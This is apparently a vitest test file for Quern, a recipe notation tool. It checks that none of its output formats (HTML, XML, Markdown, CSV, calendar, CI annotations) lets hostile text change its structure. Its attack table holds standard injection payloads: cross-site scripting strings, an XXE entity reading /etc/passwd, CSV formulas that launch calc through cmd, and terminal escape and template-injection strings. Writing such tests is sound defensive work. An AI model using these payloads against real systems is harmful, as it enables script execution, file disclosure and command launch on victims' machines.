/**
 * Everything that somebody may write, with ill will, in every place at once, in every output: the words must stay words.
 * Each output is read back by a parser that knows nothing of Quern and must have the same parts as the same recipe with
 * harmless words in the same places.
 */
import { parse as parseCsv } from 'csv-parse/sync';
import type { Nodes as HastNodes } from 'hast';
import { fromHtml } from 'hast-util-from-html';
import ICAL from 'ical.js';
import type { Nodes as MdastNodes } from 'mdast';
import remarkParse from 'remark-parse';
import { SaxesParser } from 'saxes';
import { unified } from 'unified';
import { describe, expect, test } from 'vitest';
import { createFoodBook } from '@quern/foods';
import { renderingsOf, type Rendering } from './renderings.js';

const foods = createFoodBook();

/** Attacks as they are usually written (OWASP Cheat Sheets: cross-site scripting, CSV injection), by what they aim at. */
const attacks: Readonly<Record<string, string>> = {
  'a script element': '<script>alert(1)</script>',
  'the end of a script': '</script><script>alert(1)</script>',
  'the end of a style': '</style><img src=x onerror=alert(1)>',
  'an attribute': '" onmouseover="alert(1)" x="',
  'an attribute in single quotes': "' onfocus='alert(1)' autofocus x='",
  'a comment': '--><svg onload=alert(1)><!--',
  'character data of XML': ']]><x onload="alert(1)"/><![CDATA[',
  'an entity': '&lt;b&gt; &#60;b&#62; &nbsp; <!ENTITY x SYSTEM "file:///etc/passwd"> &x;',
  'an address': 'javascript:alert(1) data:text/html;base64,PHNjcmlwdD4= [a](javascript:alert(1))',
  Markdown: '`` ` ``` # x\\ **b** _i_ ~~d~~ ![i](x) <https://x.example> [r]: x | a | b |',
  'HTML in Markdown': '<details open><summary>x</summary> <!-- x',
  'a formula': '=HYPERLINK("https://x.example?"&A1;"x")',
  'a formula with a plus': "+1+cmd|' /C calc'!A0",
  'a formula with a minus': "-2+3+cmd|' /C calc'!A0",
  'a formula with an at sign': "@SUM(1+1)*cmd|' /C calc'!A0",
  'a formula behind a tab': '\t=1+1',
  'a quoted cell': '"",=1+1,""',
  'a calendar': 'x;ALTREP="x":y\\nEND:VEVENT\\nBEGIN:VALARM',
  'an annotation': 'x::error file=other.quern,line=1::gone %0A::stop-commands::x',
  'a terminal': '\u001b[2J\u001b]0;x\u0007\u001b[31mred\u009b1m\u0008\u007f',
  directions: '\u202egnp.exe\u202c \u2067x',
  'halves of characters': 'a\uD800b\uDC00c',
  'line ends of other systems': 'a\u2028b\u2029c\u0085d\u000be\u000cf',
  'a template': '{{7*7}} ${7*7} {% x %} {# x #} <%= 7*7 %> {x}',
  'names of an object': '__proto__ constructor toString',
};

/** As much as a name can hold: it ends at some marks, and more than a few words would be a sentence. */
const asName = (text: string, words: number): string =>
  text
    .replace(/[=,:[\]\r\n.]|\/\/|--/g, ' ')
    .trim()
    .split(/\s+/)
    .slice(0, words)
    .join(' ');

/** A recipe with the same words wherever a writer has the say. */
function recipe(free: string, name: string): string {
  return [
    `recipe Loaf ${name}`,
    `by ${free}`,
    `source ${free}`,
    `keywords ${name}, rye`,
    'gives 2 loaves of 300 g',
    'serves 10 slices',
    `note ${free}`,
    `tip ${free}`,
    `warning ${free}`,
    `serve with ${free}`,
    `baked 2041-02-16, 2 loaves: ${free}`,
    '',
    `food herb ${name}`,
    '  per 100 g energy 1270 kJ, fat 0 g, saturates 0 g, carbohydrate 73 g, sugars 69 g, protein 1.6 g, salt 0.2 g',
    '  contains nothing',
    '',
    `make paste ${name}`,
    '  200 g whole rye flour',
    `  100 g water, ${free}`,
    `  20 g herb ${name}, ${free}`,
    `  10 g nowhere ${name}`,
    `  hands 3 min: ${free}`,
    `  : ${free}`,
    `  wait 10-14 h at 24 C: Leave. ${free}`,
    `  every 5 h, 1 min: Look. ${free}`,
    `  save 20 g as rest ${name}, ${free}`,
    '',
    'make loaves',
    `  all paste ${name}`,
    '  300 g wheat flour',
    `  hands 3 min: Shape. ${free}`,
    '  oven 50 min at 220 C: Bake.',
    `  keeps 5 d at 20 C, ${free}`,
    '',
    `variant without ${name}`,
    '  times 2',
    '',
    'kitchen Pennymoss Hall',
    '  has 1 oven, 1 cook',
    '',
  ].join('\n');
}

const harmless = renderingsOf(recipe('Quiet words', 'quiet words'), foods);
/** With a line that cannot be read, there is more to say. */
const broken = renderingsOf(`${recipe('Quiet [1', 'quiet words')}\nmake other\n  twelve g salt\n`, foods);

/** The words in every place; in names as many of them as the notation takes for a name. */
function attacked(attack: string): readonly Rendering[] {
  for (const words of [3, 2, 1]) {
    const made = renderingsOf(recipe(attack, asName(attack, words)), foods);
    if (made.length === harmless.length) return made;
  }
  return renderingsOf(recipe(attack, 'plain'), foods);
}

const keyOf = ({ name, kind }: Rendering): string => `${name} as ${kind}`;

test('every kind of output is made', () => {
  expect(new Set(harmless.map(({ kind }) => kind))).toEqual(
    new Set(['html', 'svg', 'xml', 'markdown', 'text', 'csv', 'json', 'calendar', 'annotations']),
  );
  expect(harmless.length).toBeGreaterThan(35);
});

describe.each(Object.entries(attacks))('%s', (_, attack) => {
  const hostile = attacked(attack);

  test('adds no part to any output', () => {
    expect(hostile.map(keyOf)).toEqual(harmless.map(keyOf));
    const changed = hostile.filter((one, index) => {
      const known = [harmless, broken].flatMap((all) => (all[index] ? partsOf(all[index]) : []));
      return partsOf(one).some((part) => !known.includes(part));
    });
    expect(changed.map(keyOf)).toEqual([]);
  });

  test('leaves no character that a terminal obeys', () => {
    // Line ends of a table and of a calendar are CR LF by their standards (RFC 4180, RFC 5545).
    const obeyed = hostile.filter(({ kind, text }) =>
      /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\p{Surrogate}]/u.test(
        kind === 'csv' || kind === 'calendar' ? text.replaceAll('\r\n', '\n') : text,
      ),
    );
    expect(obeyed.map(keyOf)).toEqual([]);
  });
});

/** The kinds of parts that an output has, without its words; each only once, but for those that could do harm. */
function partsOf({ name, kind, text }: Rendering): readonly string[] {
  switch (kind) {
    case 'html':
      return [...new Set(htmlParts(fromHtml(text)))];
    case 'svg':
    case 'xml':
      return [...new Set(xmlParts(text))];
    case 'markdown':
      return [...new Set(markdownParts(unified().use(remarkParse).parse(text)))];
    case 'csv':
      return csvParts(text);
    case 'json':
      // What is wrong with a recipe may be more or less; the rest has the same parts.
      return /report|sarif/.test(name) ? [typeof JSON.parse(text)] : [...new Set(jsonParts(JSON.parse(text)))];
    case 'calendar':
      return calendarParts(text);
    case 'annotations':
      return text.split('\n').filter((line) => !/^(?:$|::(?:error|warning|notice) file=main\.quern,line=)/.test(line));
    case 'text':
      return [];
  }
}

/** Elements with the names of their attributes; what scripts and styles of our own say, to the letter. */
function htmlParts(node: HastNodes): string[] {
  if (node.type === 'comment') return ['comment'];
  if (node.type !== 'element' && node.type !== 'root') return [];
  const below = node.children.flatMap((child) => htmlParts(child));
  if (node.type === 'root') return [...below, scriptsOf(below)];
  const { tagName, properties } = node;
  const [first] = node.children;
  const words = first?.type === 'text' ? first.value : '';
  const isData = tagName === 'script' && /json/.test(String(properties['type']));
  const isOwn = tagName === 'style' || (tagName === 'script' && !isData);
  const addresses = [properties['href'], properties['src']].filter((one) => typeof one === 'string');
  const evil = addresses.filter((one) => /^\s*(?:javascript|data|vbscript):/i.test(one));
  return [
    `${tagName} ${Object.keys(properties).sort().join(' ')}`,
    ...(isOwn ? [words] : []),
    ...(isData ? [typeof JSON.parse(words)] : []),
    ...evil,
    ...below,
  ];
}

/** How many of the elements that run, load or restyle something. */
const scriptsOf = (parts: readonly string[]): string =>
  ['script', 'style', 'link', 'img', 'iframe', 'object', 'form', 'base', 'meta']
    .map((tag) => `${parts.filter((part) => part.startsWith(`${tag} `)).length} ${tag}`)
    .join();

function xmlParts(text: string): string[] {
  const parts: string[] = [];
  const parser = new SaxesParser();
  parser.on('opentag', ({ name, attributes }) => parts.push(`${name} ${Object.keys(attributes).sort().join(' ')}`));
  parser.on('comment', () => parts.push('comment'));
  parser.on('doctype', (words) => parts.push(`doctype ${words}`));
  parser.on('processinginstruction', ({ target }) => parts.push(`instruction ${target}`));
  parser.on('error', (error) => {
    throw error;
  });
  parser.write(text).close();
  return parts;
}

function markdownParts(node: MdastNodes): string[] {
  const below = 'children' in node ? node.children.flatMap((child) => markdownParts(child)) : [];
  return [node.type, ...below];
}

/** The numbers of rows and of columns, and each cell that a spreadsheet would take for a formula. */
function csvParts(text: string): string[] {
  const rows = parseCsv(text, { relax_column_count: false }) as string[][];
  const formulas = rows
    .flat()
    .filter((cell) => /^\s*[=+\-@]/.test(cell) && !/^-?\d+(?:\.\d+)?$/.test(cell))
    .map((cell) => `a formula: ${cell}`);
  return [`${rows.length} rows`, `${rows[0]?.length ?? 0} columns`, ...formulas];
}

/** The names that stand before a colon, but for those that are names of the recipe's own things. */
function jsonParts(value: unknown): string[] {
  if (Array.isArray(value)) return value.flatMap(jsonParts);
  if (typeof value !== 'object' || value === null) return [];
  return Object.entries(value).flatMap(([key, one]) => [key, ...jsonParts(one)]);
}

function calendarParts(text: string): string[] {
  const long = text.split('\r\n').filter((line) => Buffer.byteLength(line) > 75);
  const within = (one: ICAL.Component): string[] => [
    one.name,
    ...one.getAllProperties().map(({ name, jCal }) => `${name} ${Object.keys(jCal[1] as object).join(' ')}`),
    ...one.getAllSubcomponents().flatMap(within),
  ];
  return [...long, ...new Set(within(new ICAL.Component(ICAL.parse(text))))];
}
